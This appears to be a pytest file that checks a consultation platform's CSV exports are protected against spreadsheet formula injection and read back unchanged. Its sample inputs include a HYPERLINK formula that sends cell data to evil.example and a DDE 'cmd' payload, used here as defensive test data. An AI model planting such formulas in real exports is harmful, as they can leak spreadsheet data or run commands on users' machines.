"""Exported CSV files are safe to open in a spreadsheet and read back unchanged (issue 5, item 7).

Formula-like texts go into every user-written field that reaches a CSV (statement, title, question,
description, theme, external id, moderation criterion and note); each of the platform's exports is then
checked cell by cell, and read back with Assembly's own readers.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest

from assembly.consultations import services
from assembly.consultations.datasets import export_dataset
from assembly.consultations.models import Consultation, Participant, Statement
from assembly.moderation import services as moderation

# OWASP's "CSV injection" starts; pol.is's cells must never begin with one of them unprotected.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A number ("-1" is a disagree vote), which spreadsheets read as a number, not a formula.
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1 is two",
    "-2+3 is one",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "'=already quoted by its author",
    "''@twice quoted",
]


def unsafe_cells(text: str) -> list[str]:
    """Cells of a CSV text that a spreadsheet would run as a formula."""
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell.startswith(FORMULA_STARTS) and not NUMBER.match(cell)
    ]


@pytest.fixture
def formula_consultation(db, staff) -> Consultation:
    """A consultation whose every text field starts like a formula, with votes, a rejection and an
    exclusion in its moderation log."""
    consultation = services.create_consultation(
        slug="formulas",
        title="=TITLE()+1",
        question="@question()",
        description="-description",
        accepts_xid=True,
        moderation_criteria=["=criterion(1)", "+criterion two"],
    )
    themes = services.set_themes(consultation, ["=THEME()", "+theme"])
    services.add_seed_statements(consultation, texts=FORMULAS, theme=themes[0])
    for i in range(12):
        participant, _token = services.create_participant(
            consultation, xid=f"=xid{i}()" if i % 2 else f"@x{i}"
        )
        for number in range(len(FORMULAS)):
            services.cast_vote(participant, statement_number=number, value=(i + number) % 3 - 1)
    author = Participant.objects.get(consultation=consultation, number=0)
    submitted = services.submit_statement(author, text="-submitted by a participant")
    moderation.reject_statements(
        consultation, [submitted.number], actor=staff, reason="=criterion(1)", note="=note()+1"
    )
    moderation.exclude_participant(consultation, 1, actor=staff, reason="spam", note="@note two")
    return consultation


def _unzip(content: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return {Path(n).name: archive.read(n).decode("utf-8") for n in archive.namelist()}


def test_platform_export_is_spreadsheet_safe_and_round_trips(staff_client, formula_consultation, tmp_path):
    """Check the facilitator's export (database -> zip of pol.is CSVs): no cell would run as a formula,
    and reading it back gives every text exactly as stored."""
    from assembly.polis import read_csv_export

    response = staff_client.get("/manage/formulas/export/")
    files = _unzip(response.content)
    assert {"comments.csv", "votes.csv", "participants-votes.csv", "summary.csv", "themes.csv"} <= set(files)
    for name, text in files.items():
        assert unsafe_cells(text) == [], name
        (tmp_path / name).write_text(text, encoding="utf-8")
    dataset = read_csv_export(tmp_path)
    stored = dict(Statement.objects.filter(consultation=formula_consultation).values_list("number", "text"))
    assert {s.id: s.text for s in dataset.statements} == stored
    assert {s.id: s.theme for s in dataset.statements if s.theme} == dict.fromkeys(
        range(len(FORMULAS)), "=THEME()"
    )
    xids = dict(Participant.objects.filter(consultation=formula_consultation).values_list("number", "xid"))
    assert {p.id: p.xid for p in dataset.participants} == xids
    assert dataset.summary["topic"] == "=TITLE()+1"
    assert dataset.summary["conversation-description"] == "@question()\n\n-description"


def test_moderation_log_export_is_spreadsheet_safe(staff_client, formula_consultation):
    """Check the moderation log's CSV: reasons and notes are protected; the quote is the only change."""
    text = staff_client.get("/manage/formulas/moderation/log.csv").content.decode("utf-8")
    assert unsafe_cells(text) == []
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(r["reason"], r["note"]) for r in rows] == [
        ("'=criterion(1)", "'=note()+1"),
        ("spam", "'@note two"),
    ]


def test_bundle_csvs_are_spreadsheet_safe_and_round_trip(formula_consultation, tmp_path):
    """Check the publication bundle made from the platform's data: its CSV files (moderation log
    included) are safe, and the bundled statements and moderation log read back unchanged."""
    from assembly.disclosure import INTERNAL
    from assembly.polis import read_csv_export, write_csv_export
    from assembly.report.bundle import bundle_files
    from assembly.report.moderation import read_moderation_log, write_moderation_log
    from assembly.report.source import report_from_export
    from assembly.results.report import moderation_records

    source = tmp_path / "export"
    write_csv_export(export_dataset(formula_consultation), source)
    log = moderation_records(formula_consultation)
    write_moderation_log(log, source / "moderation-log.csv")
    # 12 voters: below the publication minimum, so the report is internal; the archival set keeps every
    # text and note to read back, the publication set must be as safe.
    dataset, report, _analysed, read_log = report_from_export(
        source, measure_compute=False, disclosure=INTERNAL
    )
    assert read_log == log
    for name, body in bundle_files(dataset, report, moderation_log=read_log).items():
        assert not name.endswith(".csv") or unsafe_cells(body.decode("utf-8")) == [], name
    files = bundle_files(dataset, report, moderation_log=read_log, archival=True)
    data = {name: body.decode("utf-8") for name, body in files.items() if name.endswith(".csv")}
    assert "data/moderation-log.csv" in data and "data/comments.csv" in data
    bundled = tmp_path / "bundled"
    bundled.mkdir()
    for name, text in data.items():
        assert unsafe_cells(text) == [], name
        (bundled / Path(name).name).write_text(text, encoding="utf-8")
    assert [s.text for s in read_csv_export(bundled).statements] == [s.text for s in dataset.statements]
    assert read_moderation_log(bundled / "moderation-log.csv") == log
